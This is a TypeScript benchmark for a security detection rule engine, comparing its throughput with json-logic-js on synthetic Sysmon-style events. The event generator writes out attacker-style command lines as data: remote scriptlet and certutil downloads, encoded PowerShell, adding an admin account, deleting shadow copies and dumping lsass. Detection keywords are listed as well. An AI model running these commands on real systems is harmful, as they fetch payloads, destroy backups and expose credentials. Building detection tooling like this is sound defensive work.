/**
 * B1: rule engine throughput. Synthetic tiers of 100 / 1,000 / 3,000 rules over >= 200k
 * Sysmon-like events (or a JSONL file of normalized events from B1_EVENTS), measured against
 * (a) hand-written closures indexed by event type and (b) json-logic-js, in the same run.
 * Prints JSON. Floors: >= 10x json-logic-js, >= 0.5x the indexed closures.
 */
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { compileRuleSet, type RuleDoc } from '../lib/rules/index.js';

type Ev = { type: string; time: number } & Record<string, unknown>;
type Rec = Record<string, unknown>;

interface JsonLogic {
  apply(logic: unknown, data: unknown): unknown;
  add_operation(name: string, fn: (...args: unknown[]) => unknown): void;
}
const jsonLogic = createRequire(import.meta.url)('json-logic-js') as JsonLogic;

// ----------------------------------------------------------------- deterministic random
let seed = 0x9e3779b9;
function rnd(): number {
  seed ^= seed << 13;
  seed ^= seed >>> 17;
  seed ^= seed << 5;
  return (seed >>> 0) / 0x100000000;
}
function pick<T>(a: readonly T[]): T {
  return a[Math.floor(rnd() * a.length)] as T;
}

// ----------------------------------------------------------------- synthetic events
const SYS = 'C:\\Windows\\System32\\';
const IMAGES = [
  `${SYS}cmd.exe`, `${SYS}WindowsPowerShell\\v1.0\\powershell.exe`, `${SYS}svchost.exe`, `${SYS}rundll32.exe`, `${SYS}regsvr32.exe`,
  `${SYS}mshta.exe`, `${SYS}certutil.exe`, `${SYS}wbem\\WmiPrvSE.exe`, `${SYS}schtasks.exe`, `${SYS}sc.exe`, `${SYS}net.exe`,
  `${SYS}whoami.exe`, `${SYS}conhost.exe`, `${SYS}taskhostw.exe`, `${SYS}wscript.exe`, `${SYS}cscript.exe`, `${SYS}bitsadmin.exe`,
  `${SYS}reg.exe`, `${SYS}vssadmin.exe`, `${SYS}wevtutil.exe`, `${SYS}lsass.exe`, 'C:\\Windows\\explorer.exe',
  'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
  'C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Program Files\\Mozilla Firefox\\firefox.exe',
  'C:\\Users\\alice\\AppData\\Local\\Temp\\setup.exe', 'C:\\Users\\bob\\Downloads\\invoice.pdf.exe', 'C:\\ProgramData\\svc\\updater.exe',
  'C:\\Program Files\\Git\\usr\\bin\\bash.exe', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe',
  'C:\\Program Files\\Windows Defender\\MsMpEng.exe', 'C:\\Windows\\SysWOW64\\rundll32.exe', 'C:\\Tools\\procdump64.exe',
];
const CMD_TEMPLATES = [
  (i: string) => `"${i}" /c whoami /all`,
  (i: string) => `"${i}" -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAB`,
  (i: string) => `${i} -k netsvcs -p -s Schedule`,
  (i: string) => `"${i}" C:\\Users\\alice\\AppData\\Roaming\\x.dll,DllRegisterServer`,
  (i: string) => `"${i}" /s /n /u /i:http://10.0.0.5/a.sct scrobj.dll`,
  (i: string) => `${i} -urlcache -split -f http://example.org/p.exe C:\\Users\\Public\\p.exe`,
  (i: string) => `${i} /create /tn Updater /tr C:\\ProgramData\\svc\\updater.exe /sc onlogon`,
  (i: string) => `"${i}" --type=renderer --field-trial-handle=1234,i,987 --lang=en-US`,
  (i: string) => `${i} user admin P@ssw0rd /add`,
  (i: string) => `${i} delete shadows /all /quiet`,
  (i: string) => `"${i}" -ma lsass.exe C:\\Temp\\l.dmp`,
  (i: string) => `"${i}" "C:\\Users\\bob\\Documents\\report-${Math.floor(rnd() * 1000)}.docx"`,
];
const REG_KEYS = [
  'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
  'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\x',
  'HKLM\\System\\CurrentControlSet\\Services\\Svc\\ImagePath',
  'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware',
  'HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command\\(Default)',
];
const DLLS = [`${SYS}ntdll.dll`, `${SYS}kernel32.dll`, `${SYS}dbghelp.dll`, `${SYS}comsvcs.dll`, `${SYS}samlib.dll`, `${SYS}vaultcli.dll`, `${SYS}wininet.dll`];
const PORTS = [80, 443, 445, 3389, 4444, 8080, 53, 135, 5985];

function proc(image: string): Rec {
  return { image, name: image.slice(image.lastIndexOf('\\') + 1), cmdline: pick(CMD_TEMPLATES)(image), pid: Math.floor(rnd() * 60000), user: pick(['CORP\\alice', 'CORP\\bob', 'NT AUTHORITY\\SYSTEM']) };
}

function synthEvent(i: number): Ev {
  const r = rnd();
  const p = proc(pick(IMAGES));
  const time = 1.7e12 + i;
  if (r < 0.55) return { type: 'process.start', time, proc: p, parent: proc(pick(IMAGES)), raw: { EventID: 1, Image: p['image'], CommandLine: p['cmdline'] } };
  if (r < 0.65) return { type: 'process.access', time, proc: p, target: { image: pick(IMAGES), pid: 700 }, access: { granted: pick([0x1010, 0x1410, 0x1fffff, 0x40, 0x1000]) }, raw: { EventID: 10 } };
  if (r < 0.78) return { type: 'net.connect', time, proc: p, net: { dst_ip: `10.0.${Math.floor(rnd() * 255)}.${Math.floor(rnd() * 255)}`, dst_port: pick(PORTS), protocol: 'tcp' }, raw: { EventID: 3 } };
  if (r < 0.9) return { type: 'registry.set', time, proc: p, reg: { key: pick(REG_KEYS), data: pick(['DWORD (0x00000001)', p['image'] as string]) }, raw: { EventID: 13 } };
  return { type: 'image.load', time, proc: p, image: { path: pick(DLLS), signed: rnd() < 0.9 }, raw: { EventID: 7 } };
}

// ----------------------------------------------------------------- synthetic rules
type Pred = { field: string; op: 'endswith_any' | 'contains_any' | 'equals_any' | 'startswith_any'; values: (string | number)[] };
interface Spec {
  type: string;
  preds: Pred[];
  exception?: Pred;
}

const TOKENS = ['-enc', 'bypass', 'whoami', 'urlcache', 'shadows', 'lsass', '/add', 'scrobj', 'dllregisterserver', '-ma', 'onlogon', 'http://', 'invoke-', 'downloadstring', 'iex', 'frombase64'];
function fakeName(): string {
  let s = '';
  const n = 4 + Math.floor(rnd() * 8);
  for (let i = 0; i < n; i++) s += String.fromCharCode(97 + Math.floor(rnd() * 26));
  return s;
}
function exeName(): string {
  // One rule in twenty targets binaries that occur in the events, the rest other tools.
  return rnd() < 0.05 ? (pick(IMAGES).split('\\').pop() ?? 'x.exe').toLowerCase() : `${fakeName()}.exe`;
}

function synthSpec(): Spec {
  const r = rnd();
  if (r < 0.6) {
    const preds: Pred[] = [{ field: pick(['proc.image', 'proc.image', 'parent.image']), op: 'endswith_any', values: [`\\${exeName()}`, ...(rnd() < 0.3 ? [`\\${exeName()}`] : [])] }];
    if (rnd() < 0.7) preds.push({ field: 'proc.cmdline', op: 'contains_any', values: [pick(TOKENS), ...(rnd() < 0.5 ? [fakeName()] : [])] });
    const spec: Spec = { type: 'process.start', preds };
    if (rnd() < 0.1) spec.exception = { field: 'parent.image', op: 'endswith_any', values: ['\\explorer.exe'] };
    return spec;
  }
  if (r < 0.7) return { type: 'process.start', preds: [{ field: 'proc.cmdline', op: 'contains_any', values: [`${pick(TOKENS)} ${fakeName()}`] }] };
  if (r < 0.8) return { type: 'registry.set', preds: [{ field: 'reg.key', op: 'contains_any', values: [pick(['\\currentversion\\run', '\\services\\', '\\ms-settings\\', `\\${fakeName()}\\`])] }, { field: 'proc.image', op: 'endswith_any', values: [`\\${exeName()}`] }] };
  if (r < 0.88) return { type: 'net.connect', preds: [{ field: 'net.dst_port', op: 'equals_any', values: [pick(PORTS), 1000 + Math.floor(rnd() * 60000)] }, { field: 'proc.image', op: 'endswith_any', values: [`\\${exeName()}`] }] };
  if (r < 0.94) return { type: 'image.load', preds: [{ field: 'image.path', op: 'endswith_any', values: [`\\${fakeName()}.dll`, ...(rnd() < 0.2 ? ['\\comsvcs.dll'] : [])] }, { field: 'proc.image', op: 'startswith_any', values: [pick(['c:\\users\\', 'c:\\programdata\\', `c:\\${fakeName()}\\`])] }] };
  return { type: 'process.access', preds: [{ field: 'target.image', op: 'endswith_any', values: [`\\${pick(['lsass.exe', `${fakeName()}.exe`])}`] }, { field: 'proc.image', op: 'endswith_any', values: [`\\${exeName()}`] }] };
}

function toRule(s: Spec, i: number): RuleDoc {
  const p = (x: Pred) => ({ field: x.field, [x.op]: x.values });
  const doc: RuleDoc = { id: `bench.r${i}`, title: `bench ${i}`, severity: 'medium', event: [s.type], match: s.preds.length === 1 ? p(s.preds[0] as Pred) : { all: s.preds.map(p) } };
  if (s.exception) doc.exceptions = [p(s.exception)];
  return doc;
}

// (a) hand-written closures, indexed by event type only
function closureOf(x: Pred): (e: Ev) => boolean {
  const [g, f] = x.field.split('.') as [string, string];
  const get = (e: Ev): unknown => (e[g] as Rec | undefined)?.[f];
  if (x.op === 'equals_any') {
    const vals = x.values;
    return (e) => vals.includes(get(e) as number);
  }
  const lits = x.values.map((v) => String(v).toLowerCase());
  if (x.op === 'endswith_any') return (e) => { const v = get(e); if (typeof v !== 'string') return false; const s = v.toLowerCase(); return lits.some((l) => s.endsWith(l)); };
  if (x.op === 'startswith_any') return (e) => { const v = get(e); if (typeof v !== 'string') return false; const s = v.toLowerCase(); return lits.some((l) => s.startsWith(l)); };
  return (e) => { const v = get(e); if (typeof v !== 'string') return false; const s = v.toLowerCase(); return lits.some((l) => s.includes(l)); };
}
function closureIndex(specs: Spec[]): Map<string, { id: number; test: (e: Ev) => boolean }[]> {
  const idx = new Map<string, { id: number; test: (e: Ev) => boolean }[]>();
  specs.forEach((s, id) => {
    const ps = s.preds.map(closureOf);
    const ex = s.exception ? closureOf(s.exception) : undefined;
    const test = (e: Ev): boolean => ps.every((p) => p(e)) && !(ex && ex(e));
    const l = idx.get(s.type);
    if (l) l.push({ id, test });
    else idx.set(s.type, [{ id, test }]);
  });
  return idx;
}

// (b) json-logic-js on the same rules (also indexed by type, to be generous to the peer)
jsonLogic.add_operation('lower', (v: unknown) => (typeof v === 'string' ? v.toLowerCase() : ''));
jsonLogic.add_operation('endswith', (s: unknown, l: unknown) => typeof s === 'string' && s.endsWith(String(l)));
jsonLogic.add_operation('startswith', (s: unknown, l: unknown) => typeof s === 'string' && s.startsWith(String(l)));
function logicOf(x: Pred): unknown {
  const v = { var: x.field };
  if (x.op === 'equals_any') return { in: [v, x.values] };
  const low = { lower: [v] };
  const lits = x.values.map((l) => String(l).toLowerCase());
  const one = (l: string) => (x.op === 'contains_any' ? { in: [l, low] } : x.op === 'endswith_any' ? { endswith: [low, l] } : { startswith: [low, l] });
  return lits.length === 1 ? one(lits[0] as string) : { or: lits.map(one) };
}
function logicIndex(specs: Spec[]): Map<string, { id: number; logic: unknown }[]> {
  const idx = new Map<string, { id: number; logic: unknown }[]>();
  specs.forEach((s, id) => {
    const all: unknown[] = s.preds.map(logicOf);
    if (s.exception) all.push({ '!': [logicOf(s.exception)] });
    const logic = { and: all };
    const l = idx.get(s.type);
    if (l) l.push({ id, logic });
    else idx.set(s.type, [{ id, logic }]);
  });
  return idx;
}

// ----------------------------------------------------------------- run
function heapMb(): number {
  const gc = (globalThis as { gc?: () => void }).gc;
  if (gc) gc();
  return process.memoryUsage().heapUsed / 1048576;
}

function time(fn: () => number): { ms: number; hits: number } {
  const t0 = performance.now();
  const hits = fn();
  return { ms: performance.now() - t0, hits };
}

function loadEvents(): { events: Ev[]; source: string } {
  const file = process.env['B1_EVENTS'];
  if (file) {
    const events: Ev[] = [];
    let bad = 0;
    for (const line of readFileSync(file, 'utf8').split('\n')) {
      if (line.trim() === '') continue;
      try {
        const v = JSON.parse(line) as Ev;
        if (typeof v.type === 'string') events.push(v);
        else bad++;
      } catch {
        bad++;
      }
    }
    if (bad > 0) process.stderr.write(`b1: ${bad} unparseable line(s) in ${file} skipped\n`);
    return { events, source: file };
  }
  const n = Number(process.env['B1_SYNTH_EVENTS'] ?? 200_000);
  return { events: Array.from({ length: n }, (_, i) => synthEvent(i)), source: 'synthetic' };
}

const { events, source } = loadEvents();
const tiers = (process.env['B1_TIERS'] ?? '100,1000,3000').split(',').map(Number);
const logicSample = events.slice(0, Number(process.env['B1_LOGIC_EVENTS'] ?? 3000));
// The unindexed-by-literal peers are slow at large tiers: each is timed on a prefix sized to
// keep the whole run near two minutes (rates, not totals, are compared).
const peerEvents = (rules: number): Ev[] => events.slice(0, Math.max(5000, Math.min(events.length, Math.floor(30_000_000 / rules))));
const results: Rec[] = [];

for (const n of tiers) {
  const specs = Array.from({ length: n }, synthSpec);
  const docs = specs.map(toRule);

  const h0 = heapMb();
  const c0 = performance.now();
  const set = compileRuleSet(docs);
  const compileMs = performance.now() - c0;
  const heap = heapMb() - h0;
  const closures = closureIndex(specs);
  const logic = logicIndex(specs);

  // Warm up all three, then measure.
  const runVigil = (evs: Ev[]): number => {
    let hits = 0;
    for (const e of evs) set.match(e, () => hits++);
    return hits;
  };
  const runClosures = (evs: Ev[]): number => {
    let hits = 0;
    for (const e of evs) for (const r of closures.get(e.type) ?? []) if (r.test(e)) hits++;
    return hits;
  };
  const runLogic = (evs: Ev[]): number => {
    let hits = 0;
    for (const e of evs) for (const r of logic.get(e.type) ?? []) if (jsonLogic.apply(r.logic, e) === true) hits++;
    return hits;
  };
  const warm = events.slice(0, 5000);
  runVigil(warm);
  runClosures(warm);
  runLogic(warm.slice(0, 300));

  const v = time(() => runVigil(events));
  const closureSample = peerEvents(n);
  const c = time(() => runClosures(closureSample));
  const vigilHitsClosureSample = closureSample.length === events.length ? v.hits : runVigil(closureSample);
  const l = time(() => runLogic(logicSample));
  const vigilHitsSample = runVigil(logicSample);
  const eps = (ms: number, k: number) => Math.round((k / ms) * 1000);
  const vEps = eps(v.ms, events.length);
  const cEps = eps(c.ms, closureSample.length);
  const lEps = eps(l.ms, logicSample.length);
  const ratioClosures = vEps / cEps;
  const ratioLogic = vEps / lEps;
  results.push({
    rules: n,
    events: events.length,
    vigil: { events_per_s: vEps, us_per_event: +((v.ms * 1000) / events.length).toFixed(3), compile_ms: +compileMs.toFixed(1), heap_mb: +heap.toFixed(1), unindexed_rules: set.stats.unindexed, hits: v.hits },
    indexed_closures: { events_per_s: cEps, us_per_event: +((c.ms * 1000) / closureSample.length).toFixed(3), events_measured: closureSample.length, hits: c.hits },
    json_logic: { events_per_s: lEps, us_per_event: +((l.ms * 1000) / logicSample.length).toFixed(3), events_measured: logicSample.length, hits: l.hits },
    hits_agree: vigilHitsClosureSample === c.hits && vigilHitsSample === l.hits,
    ratio: { vs_indexed_closures: +ratioClosures.toFixed(2), vs_json_logic: +ratioLogic.toFixed(1) },
    floors_met: { vs_indexed_closures_ge_0_5: ratioClosures >= 0.5, vs_json_logic_ge_10: ratioLogic >= 10 },
  });
}

const ok = results.every((r) => {
  const f = r['floors_met'] as Record<string, boolean>;
  return f['vs_indexed_closures_ge_0_5'] === true && f['vs_json_logic_ge_10'] === true && r['hits_agree'] === true;
});
process.stdout.write(`${JSON.stringify({ bench: 'b1-rules', source, node: process.version, tiers: results, ratio: results.map((r) => r['ratio']), ok }, null, 2)}\n`);
